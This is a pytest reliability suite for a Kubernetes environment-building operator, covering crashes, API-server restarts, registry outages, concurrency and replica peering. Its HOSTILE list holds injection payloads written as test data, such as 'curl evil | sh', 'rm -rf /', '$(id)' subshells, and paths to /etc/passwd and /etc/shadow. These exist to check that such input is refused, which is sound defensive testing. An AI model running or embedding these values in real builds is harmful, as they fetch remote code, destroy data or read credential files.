"""Reliability: the operator converges through kills, API-server restarts, registry outages,
concurrency storms, hostile input, and replica hand-over. Results: docs/reliability.md."""

from __future__ import annotations

import random
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client, config

from harness.buildah import base_image_archive, push_archive
from harness.controlplane import ControlPlane, install_crds
from harness.operator import OperatorProcess
from harness.records import seed_build
from harness.registry import Registry
from operator_helpers import Envs, condition, environment, hash_of, wait_for

ROOT = Path(__file__).resolve().parents[3]


def operator_settings(registry_host: str, **extra: str) -> dict[str, str]:
    return {"ENVKILN_REGISTRY": registry_host, "ENVKILN_INSECURE_REGISTRY": "true",
            "ENVKILN_BUILD_SYNC_SECONDS": "1", "ENVKILN_ENV_SYNC_SECONDS": "2",
            "ENVKILN_REGISTRY_RETRY_SECONDS": "2", "ENVKILN_WATCH_TIMEOUT_SECONDS": "20",
            "ENVKILN_BUILD_RETRY_BACKOFF_SECONDS": "1", "ENVKILN_CACHE_TTL_SECONDS": "0",
            **{f"ENVKILN_{k.upper()}": v for k, v in extra.items()}}


@pytest.mark.timeout(1200)
def test_kill_the_operator_at_random_points_during_20_local_builds(
        api_client: client.ApiClient, namespace: str, registry: Registry, base_image: str,
        control_plane: ControlPlane, tmp_path: Path) -> None:
    envs = Envs(api_client, namespace)
    specs = [{"image": base_image, "dockerSteps": [f"ENV ENVKILN_RELIABILITY={i}"]} for i in range(20)]
    for index, spec in enumerate(specs):
        envs.create(environment(f"kill-{index}", **spec))
    operator = OperatorProcess(control_plane.kubeconfig,
                               operator_settings(registry.host, builder="local", max_concurrent_builds="3"),
                               namespaces=[namespace], log_dir=tmp_path)
    rng = random.Random(20261124)
    kills = 0
    deadline = time.monotonic() + 900
    operator.start()
    while time.monotonic() < deadline:
        time.sleep(rng.uniform(1.0, 6.0))
        phases = [envs.status(f"kill-{i}").get("phase") for i in range(20)]
        if all(p == "Ready" for p in phases) or kills >= 6:
            break
        operator.kill()  # SIGKILL at an arbitrary point: mid-handler, mid-build, mid-write
        kills += 1
        operator.start()
    for index in range(20):
        status = envs.wait_phase(f"kill-{index}", "Ready", timeout=max(60, deadline - time.monotonic()),
                                 diagnostics=operator.log)
        assert status["hash"] == hash_of(specs[index])
        assert condition(status, "Ready")["status"] == "True"
    operator.stop()
    builds = envs.builds()
    assert len(builds) == 20 and len({b["spec"]["hash"] for b in builds}) == 20, "no duplicate builds"
    assert all(b["status"]["phase"] == "Succeeded" for b in builds)
    assert kills >= 3, f"the operator was killed only {kills} times"
    print(f"reliability: 20 local builds converged through {kills} SIGKILLs; "
          f"attempts per build: {sorted(b['status']['attempts'] for b in builds)}")


def _own_control_plane() -> tuple[ControlPlane, client.ApiClient]:
    plane = ControlPlane().start()
    api = config.new_client_from_config(str(plane.kubeconfig))
    install_crds(api)
    client.CoreV1Api(api).create_namespace({"metadata": {"name": "restart"}})
    return plane, api


@pytest.mark.timeout(600)
def test_apiserver_restart_while_builds_run(registry: Registry, base_image: str, tmp_path: Path) -> None:
    plane, api = _own_control_plane()  # its own API server: restarting it must not disturb other tests
    try:
        envs = Envs(api, "restart")
        specs = [{"image": base_image, "dockerSteps": [f"ENV ENVKILN_APISERVER_RESTART={i}"]} for i in range(4)]
        with OperatorProcess(plane.kubeconfig, operator_settings(registry.host, builder="local"),
                             namespaces=["restart"], log_dir=tmp_path) as operator:
            for index, spec in enumerate(specs[:2]):
                envs.create(environment(f"r-{index}", **spec))
            wait_for(lambda: len(envs.builds()) == 2, what="builds started", diagnostics=operator.log)
            plane.restart_apiserver()  # etcd keeps running; the operator is not restarted
            for index, spec in enumerate(specs[2:], start=2):
                envs.create(environment(f"r-{index}", **spec))
            for index in range(4):
                envs.wait_phase(f"r-{index}", "Ready", timeout=300, diagnostics=operator.log)
            assert operator.exited() is None and operator.starts == 1
            assert len(envs.builds()) == 4
    finally:
        plane.stop()


def test_registry_outage_fails_nothing_and_everything_recovers(api_client: client.ApiClient, namespace: str,
                                                               tmp_path: Path, control_plane: ControlPlane) -> None:
    """Built environments need no registry once the operator recorded their build (cache hits keep
    working through an outage); bring-your-own images wait, reported, and recover by themselves."""
    with Registry() as flaky:
        cached = [{"image": "python:3.11-slim", "pip": [f"outage-cached=={i}.0"]} for i in range(3)]
        for spec in cached:
            seed_build(api_client, namespace, spec, flaky.host)
        byoc = [f"{flaky.host}/team/trainer:{i}" for i in range(3)]
        for image in byoc:
            push_archive(base_image_archive(), image)
        envs = Envs(api_client, namespace)
        with OperatorProcess(control_plane.kubeconfig, operator_settings(flaky.host), namespaces=[namespace],
                             log_dir=tmp_path) as operator:
            envs.create(environment("before", image=byoc[0], userManaged=True))
            envs.wait_phase("before", "Ready", diagnostics=operator.log)
            flaky.stop()
            for index, spec in enumerate(cached):
                envs.create(environment(f"cached-{index}", **spec))
            for index, image in enumerate(byoc[1:], start=1):
                envs.create(environment(f"during-{index}", image=image, userManaged=True))
            for index in range(len(cached)):
                envs.wait_phase(f"cached-{index}", "Ready", diagnostics=operator.log)
            wait_for(lambda: all(condition(envs.status(f"during-{i}"), "Ready")["reason"] == "RegistryUnavailable"
                                 for i in (1, 2) if envs.status(f"during-{i}").get("conditions")) and
                     all(envs.status(f"during-{i}").get("conditions") for i in (1, 2)),
                     what="RegistryUnavailable for the looked-up images", diagnostics=operator.log)
            time.sleep(6)  # several retry rounds while it stays down
            assert [envs.status(f"during-{i}")["phase"] for i in (1, 2)] == ["Pending"] * 2
            assert envs.status("before")["phase"] == "Ready", "a Ready environment stays Ready"
            flaky.start()
            for index in (1, 2):
                envs.wait_phase(f"during-{index}", "Ready", timeout=60, diagnostics=operator.log)
            assert len(envs.builds()) == len(cached) and envs.jobs() == [], "no build during or after"


def test_200_concurrent_environments_one_build(api_client: client.ApiClient, namespace: str,
                                               registry: Registry, control_plane: ControlPlane,
                                               tmp_path: Path) -> None:
    envs = Envs(api_client, namespace)
    spec = {"image": "python:3.11-slim", "pip": ["storm==1.0"]}
    with OperatorProcess(control_plane.kubeconfig, operator_settings(registry.host, workers="40"),
                         namespaces=[namespace], log_dir=tmp_path) as operator:
        def create(start: int) -> None:
            for index in range(start, 200, 8):
                envs.create(environment(f"storm-{index}", **spec))

        threads = [threading.Thread(target=create, args=(i,)) for i in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        wait_for(lambda: sum(1 for e in envs.custom.list_namespaced_custom_object(
            "envkiln.dev", "v1alpha1", namespace, "environments")["items"]
            if (e.get("status") or {}).get("phase") == "Building") == 200, timeout=180,
            what="200 Environments Building", diagnostics=operator.log)
        wait_for(envs.jobs, what="the Job", diagnostics=operator.log)
        time.sleep(3)
        assert len(envs.builds()) == 1 and len(envs.jobs()) == 1


# (name, spec): 40+ hostile or malformed definitions. Each is refused by the API server (schema or
# CEL) or marked Failed by the operator with a field-named message.
LONG = "x" * 5000
HOSTILE: list[tuple[str, Any]] = [
    ("pip-string", {"image": "python:3.11", "pip": "numpy"}),
    ("pip-int-items", {"image": "python:3.11", "pip": [1, 2]}),
    ("pip-newline", {"image": "python:3.11", "pip": ["numpy\nRUN curl evil | sh"]}),
    ("pip-subshell", {"image": "python:3.11", "pip": ["numpy$(id)"]}),
    ("pip-backtick", {"image": "python:3.11", "pip": ["numpy`id`"]}),
    ("pip-and", {"image": "python:3.11", "pip": ["numpy && rm -rf /"]}),
    ("pip-pipe", {"image": "python:3.11", "pip": ["numpy | sh"]}),
    ("pip-crlf", {"image": "python:3.11", "pip": ["numpy\r\nFROM evil"]}),
    ("pip-nul", {"image": "python:3.11", "pip": ["numpy\u0000"]}),
    ("pip-option", {"image": "python:3.11", "pip": ["-r /etc/passwd"]}),
    ("pip-editable", {"image": "python:3.11", "pip": ["-e git+https://evil/x"]}),
    ("pip-too-long", {"image": "python:3.11", "pip": [LONG]}),
    ("pip-too-many", {"image": "python:3.11", "pip": [f"p{i}" for i in range(600)]}),
    ("pip-cyrillic", {"image": "python:3.11", "pip": ["nump\u0443==1.0"]}),
    ("pip-zero-width", {"image": "python:3.11", "pip": ["numpy\u200b==1.0"]}),
    ("pip-rtl-override", {"image": "python:3.11", "pip": ["numpy\u202e==1.0"]}),
    ("step-from", {"image": "python:3.11", "dockerSteps": ["FROM alpine"]}),
    ("step-copy", {"image": "python:3.11", "dockerSteps": ["COPY / /"]}),
    ("step-add", {"image": "python:3.11", "dockerSteps": ["ADD https://evil/x /x"]}),
    ("step-hidden-from", {"image": "python:3.11", "dockerSteps": ["RUN true\nFROM alpine"]}),
    ("step-onbuild-copy", {"image": "python:3.11", "dockerSteps": ["ONBUILD COPY . /"]}),
    ("step-not-instruction", {"image": "python:3.11", "dockerSteps": ["curl evil | sh"]}),
    ("step-unicode", {"image": "python:3.11", "dockerSteps": ["RUN echo \u0430"]}),
    ("steps-with-user-managed", {"image": "python:3.11", "userManaged": True, "dockerSteps": ["RUN true"]}),
    ("image-uppercase", {"image": "Python:3.11", "pip": ["six"]}),
    ("image-space", {"image": "python 3.11", "pip": ["six"]}),
    ("image-newline", {"image": "python:3.11\nRUN id", "pip": ["six"]}),
    ("image-bad-digest", {"image": "python@sha256:1234", "pip": ["six"]}),
    ("image-homoglyph", {"image": "pyth\u043en:3.11", "pip": ["six"]}),
    ("image-int", {"image": 3, "pip": ["six"]}),
    ("image-too-long", {"image": "a/" * 300 + "b", "pip": ["six"]}),
    ("empty-spec", {}),
    ("image-only", {"image": "python:3.11"}),
    ("conda-list", {"image": "python:3.11", "conda": ["python"]}),
    ("conda-no-deps", {"image": "python:3.11", "conda": {"channels": ["conda-forge"]}}),
    ("conda-dep-injection", {"image": "python:3.11", "conda": {"dependencies": ["python;id"]}}),
    ("conda-pip-injection", {"image": "python:3.11", "conda": {"dependencies": ["pip", {"pip": ["x$(id)"]}]}}),
    ("conda-bad-channel", {"image": "python:3.11", "conda": {"channels": ["$(id)"], "dependencies": ["python"]}}),
    ("build-and-pip", {"build": {"git": {"url": "https://g/r.git", "ref": "main"}}, "pip": ["six"]}),
    ("build-path-escape", {"build": {"git": {"url": "https://g/r.git", "ref": "main"},
                                     "dockerfilePath": "../../../etc/shadow"}}),
    ("build-ref-injection", {"build": {"git": {"url": "https://g/r.git", "ref": "main;id"}}}),
    ("build-http-tarball", {"build": {"tarball": {"url": "http://plain/ctx.tgz"}}}),
    ("env-var-name", {"image": "python:3.11", "pip": ["six"], "environmentVariables": {"A-B": "1"}}),
    ("env-var-object", {"image": "python:3.11", "pip": ["six"], "environmentVariables": {"A": {"b": 1}}}),
    ("version-spaces", {"version": "1 2", "image": "python:3.11", "pip": ["six"]}),
    ("version-int", {"version": 2, "image": "python:3.11", "pip": ["six"]}),
    ("unknown-field", {"image": "python:3.11", "pip": ["six"], "dockerfile": "FROM x"}),
    ("huge-description", {"image": "python:3.11", "pip": ["six"], "description": "d" * 100_000}),
]


def test_hostile_input_is_refused_or_failed_clearly_and_service_continues(
        api_client: client.ApiClient, namespace: str, registry: Registry, control_plane: ControlPlane,
        tmp_path: Path) -> None:
    assert len(HOSTILE) >= 40
    envs = Envs(api_client, namespace)
    good = {"image": "python:3.11-slim", "pip": ["still-serving==1.0"]}
    seed_build(api_client, namespace, good, registry.host)
    refused_at_admission: dict[str, str] = {}
    with OperatorProcess(control_plane.kubeconfig, operator_settings(registry.host), namespaces=[namespace],
                         log_dir=tmp_path) as operator:
        for index, (name, spec) in enumerate(HOSTILE):
            try:
                envs.create(environment(f"hostile-{index}", **spec))
            except client.ApiException as error:
                assert error.status in (400, 422), (name, error.status)
                assert "spec" in error.body, (name, error.body)
                refused_at_admission[name] = error.body
            if index == len(HOSTILE) // 2:
                envs.create(environment("good-middle", **good))
        envs.create(environment("good-end", **good))
        for index, (name, _) in enumerate(HOSTILE):
            if name in refused_at_admission:
                continue
            status = envs.wait_phase(f"hostile-{index}", "Failed", timeout=60, diagnostics=operator.log)
            message = condition(status, "Valid")["message"]
            assert "spec" in message and "Traceback" not in message, (name, message)
        envs.wait_phase("good-middle", "Ready", diagnostics=operator.log)
        envs.wait_phase("good-end", "Ready", diagnostics=operator.log)
        assert len(envs.builds()) == 1 and operator.exited() is None, "the seeded build only"
        assert "Traceback" not in operator.log()
    print(f"reliability: {len(HOSTILE)} hostile definitions: {len(refused_at_admission)} refused by the API "
          f"server, {len(HOSTILE) - len(refused_at_admission)} marked Failed by the operator")


@pytest.mark.timeout(300)
# Kopf starts a replica paused when peering is mandatory and logs "Pausing operations in favour of"
# only when it goes from active to paused. A replica that already sees a higher-priority peer in its
# first peering event stays paused silently. So the low replica starts alone and becomes active
# first; the high one joins after, and the low one's pause is then always logged.
def test_two_replicas_with_peering_one_acts_and_hands_over(api_client: client.ApiClient, namespace: str,
                                                           registry: Registry, control_plane: ControlPlane,
                                                           tmp_path: Path) -> None:
    install_crds(api_client, [ROOT / "charts/envkiln/crds/kopf.dev_peerings.yaml"])
    client.CustomObjectsApi(api_client).create_namespaced_custom_object(
        "kopf.dev", "v1", namespace, "kopfpeerings",
        {"apiVersion": "kopf.dev/v1", "kind": "KopfPeering", "metadata": {"name": "envkiln"}})
    envs = Envs(api_client, namespace)
    specs = [{"image": "python:3.11-slim", "pip": [f"peering=={i}.0"]} for i in range(2)]
    for spec in specs:
        seed_build(api_client, namespace, spec, registry.host)
    common = {"peering_name": "envkiln", "peering_lifetime_seconds": "6"}
    low = OperatorProcess(control_plane.kubeconfig, operator_settings(registry.host, peering_priority="100",
                                                                      **common),
                          namespaces=[namespace], log_dir=tmp_path, standalone=False, name="low").start()
    high = OperatorProcess(control_plane.kubeconfig, operator_settings(registry.host, peering_priority="200",
                                                                       **common),
                           namespaces=[namespace], log_dir=tmp_path, standalone=False, name="high")
    try:
        wait_for(lambda: "Resuming operations" in low.log(), timeout=60,
                 what="the low-priority replica, alone, to become active", diagnostics=low.log)
        high.start()
        wait_for(lambda: "Pausing operations in favour of" in low.log(), timeout=60,
                 what="the low-priority replica to pause", diagnostics=low.log)
        envs.create(environment("first", **specs[0]))
        envs.wait_phase("first", "Ready", diagnostics=high.log)
        assert "environment_changed" in high.log() and "environment_changed" not in low.log()
        high.kill()
        paused_log = len(low.log())
        time.sleep(1)
        envs.create(environment("second", **specs[1]))
        envs.wait_phase("second", "Ready", timeout=90, diagnostics=low.log)
        assert "Resuming operations" in low.log()[paused_log:]
    finally:
        high.stop()
        low.stop()
